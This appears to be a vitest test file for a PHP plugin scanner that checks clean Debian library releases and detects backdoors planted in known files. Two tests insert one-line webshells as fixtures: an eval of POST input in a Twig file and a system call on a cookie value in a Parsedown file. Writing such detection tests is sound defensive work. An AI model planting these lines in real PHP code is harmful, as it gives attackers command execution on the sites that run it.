import { zipSync } from 'fflate';
import { beforeAll, describe, expect, it } from 'vitest';
import { corpusZip, loadCorpus } from '../../../../tests/fixtures/webshells/corpus';
import {
  DEBIAN_PHP,
  debianRelease,
  releasePlugin as plugin,
  type RealRelease,
} from '../../../../tests/support/debian-php';
import { presentReport } from '../present-report';
import { type KnownIndex, knownIndex, knownLibrary } from './known-files';
import { validatePackage } from './package';

/**
 * The scan on real, clean code: Debian's releases of libraries that plugins and themes bundle, each
 * placed in a plugin as `vendor/<package>/…` (code, docs and examples as the release ships them).
 * Read twice: with the index of known releases empty (the scan's own reading must not hold them)
 * and with every release imported (each file is then a known copy).
 *
 * Releases the scan's own reading lets through with no index at all. The rest are still held without
 * the index, each for a flow a reviewer may want to see (docs/benchmarks.md, the package scan's
 * figures): Composer (paths it copies over, renames and deletes come from `$_SERVER['argv']`, which
 * PHP fills from the query string under a web server when register_argc_argv is on; it also calls
 * `exec` and `file_put_contents` through a name and evals generated code), TCPDF (an image URL built from
 * `$_SERVER['HTTP_HOST']` is fetched, cached and its type picks the parser to call) and Swift Mailer
 * (a generator that writes two downloaded tables into a PHP file unescaped).
 */
const CLEAN_WITHOUT_INDEX = [
  'php-twig',
  'smarty3',
  'smarty4',
  'php-phpseclib3',
  'php-guzzlehttp-guzzle',
  'php-guzzlehttp-psr7',
  'libphp-phpmailer',
  'php-symfony-process',
  'php-symfony-var-dumper',
  'php-symfony-yaml',
  'php-monolog',
  'php-dompdf',
  'php-league-commonmark',
  'php-league-flysystem',
  'php-nikic-fast-route',
  'php-phpmyadmin-sql-parser',
  'php-ramsey-uuid',
  'php-predis',
  'php-parsedown',
  'php-slim',
  'php-htmlpurifier',
  // Its demos stop at their first line (`die('…disabled for security reasons…')`).
  'php-getid3',
  // Its realtime log is opened at a class constant's fixed name, not a script.
  'php-phpseclib',
  // Small files: the cross-file pass has as much budget as the first.
  'libphp-adodb',
  // Its debug log is `sys_get_temp_dir() . '/sf_' . basename($_SERVER['argv'][0]) . '.log'`.
  'php-symfony-console',
];

const enc = (s: string) => new TextEncoder().encode(s);

const holds = (zip: Uint8Array, known?: KnownIndex) =>
  validatePackage(zip, 'demo.zip', 'plugin', known).checks.filter(
    (c) => c.level === 'hold' || c.level === 'fail',
  );

let releases: RealRelease[];
let known: KnownIndex;
const withoutIndex = new Map<string, ReturnType<typeof holds>>();
/** A release's holds with the index empty, read once for the tests that look at them. */
const unknownHolds = (r: RealRelease) => {
  const found = withoutIndex.get(r.name) ?? holds(plugin(r));
  withoutIndex.set(r.name, found);
  return found;
};

beforeAll(() => {
  releases = DEBIAN_PHP.map(debianRelease);
  known = knownIndex({ libraries: releases.map((r) => knownLibrary(r.name, r.version, r.files)) });
}, 300_000);

describe('the real clean corpus', () => {
  it('is real: at least 15 library releases with thousands of PHP files', () => {
    expect(releases.length).toBeGreaterThanOrEqual(15);
    const php = releases.flatMap((r) => r.files).filter((f) => f.path.endsWith('.php'));
    expect(php.length).toBeGreaterThan(3_000);
  });

  it('holds none of the releases its own reading covers, with the index empty', () => {
    const held: string[] = [];
    for (const r of releases.filter((x) => CLEAN_WITHOUT_INDEX.includes(x.name)))
      for (const c of unknownHolds(r)) held.push(`${r.name}: ${c.key} ${c.params?.file}:${c.params?.line}`);
    expect(held).toEqual([]);
  }, 120_000);

  it('holds the others for the flows it names, with the source each one traced, and none for its size', () => {
    const sources = new Map<string, Set<string>>();
    for (const r of releases.filter((x) => !CLEAN_WITHOUT_INDEX.includes(x.name))) {
      const found = unknownHolds(r);
      expect(found.length, r.name).toBeGreaterThan(0);
      expect(found.filter((c) => c.key === 'notScanned')).toEqual([]);
      sources.set(r.name, new Set(found.map((c) => String(c.params?.src ?? ''))));
    }
    expect([...sources.keys()].sort()).toEqual(['composer', 'php-swiftmailer', 'php-tcpdf']);
    expect(sources.get('composer')).toContain("$_SERVER['argv']");
    expect(sources.get('php-tcpdf')).toEqual(new Set(["$_SERVER['HTTP_HOST']"]));
    expect([...(sources.get('php-swiftmailer') ?? [])]).toEqual([
      expect.stringMatching(/^https:\/\/svn\.apache\.org\//),
    ]);
  }, 120_000);

  it('holds none with every release known, each reported as the release it is', () => {
    const held: string[] = [];
    for (const r of releases) {
      const report = validatePackage(plugin(r), 'demo.zip', 'plugin', known);
      for (const c of report.checks)
        if (c.level === 'hold' || c.level === 'fail') held.push(`${r.name}: ${c.key} ${c.params?.file}`);
      expect(report.checks).toContainEqual(
        expect.objectContaining({
          level: 'pass',
          key: 'knownRelease',
          params: expect.objectContaining({ library: r.name, version: r.version }),
        }),
      );
    }
    expect(held).toEqual([]);
  }, 120_000);

  it('holds a known file with one planted line as a modified copy, naming the line', () => {
    const twig = releases.find((r) => r.name === 'php-twig')!;
    const target = 'php/Twig/Environment.php';
    const zip = plugin(twig, (p, bytes) => {
      if (p !== target) return bytes;
      const lines = new TextDecoder().decode(bytes).split('\n');
      lines.splice(40, 0, "@eval($_POST['z']);");
      return enc(lines.join('\n'));
    });
    const found = holds(zip, known);
    expect(found).toContainEqual({
      level: 'hold',
      key: 'scan.modifiedKnown',
      params: expect.objectContaining({
        file: `vendor/php-twig/${target}`,
        library: 'php-twig',
        path: target,
        count: 1,
        lines: '41',
        line: 41,
        snippet: "@eval($_POST['z']);",
      }),
    });
    expect(found.map((c) => c.key)).toContain('scan.evalInput');
    const text = (locale: 'en-us' | 'zh-cn') =>
      presentReport(validatePackage(zip, 'demo.zip', 'plugin', known), locale)!.checks.find(
        (c) => c.key === 'scan.modifiedKnown',
      )?.text;
    expect(text('en-us')).toBe(
      `Held: vendor/php-twig/${target} is a changed copy of php-twig ${twig.version} ${target}: it differs in 1 line` +
        ' (lines the release does not have: 41). A known file changed in place is how backdoors are planted',
    );
    expect(text('zh-cn')).toContain('41');
    expect(found.filter((c) => c.params?.file !== `vendor/php-twig/${target}`)).toEqual([]);
  });

  it('finds a changed copy of a known file carried alone, by its name and lines', () => {
    const parsedown = releases.find((r) => r.name === 'php-parsedown')!;
    const file = parsedown.files.find((f) => f.path.endsWith('/Parsedown.php'))!;
    const lines = new TextDecoder().decode(file.bytes).split('\n');
    lines.splice(100, 0, 'if (isset($_COOKIE["k"])) { @system($_COOKIE["k"]); }');
    const zip = zipSync({
      'Demo.php': enc('<?php\nclass Demo { public function run() { return 1; } }\n'),
      'info.ini': enc('name=demo\n'),
      'lib/markdown/Parsedown.php': enc(lines.join('\n')),
    });
    expect(holds(zip, known)).toContainEqual(
      expect.objectContaining({
        key: 'scan.modifiedKnown',
        params: expect.objectContaining({
          file: 'lib/markdown/Parsedown.php',
          library: 'php-parsedown',
          lines: '101',
        }),
      }),
    );
  });

  it('leaves the crafted corpus as it was with every release known: every shape held, every twin let through', () => {
    const wrong: string[] = [];
    for (const item of loadCorpus()) {
      const held = validatePackage(corpusZip(item), 'demo.zip', item.kind, known).held;
      if (held !== item.held) wrong.push(`${item.held ? 'held' : 'clean'}/${item.id}`);
    }
    expect(wrong).toEqual([]);
  }, 120_000);
});
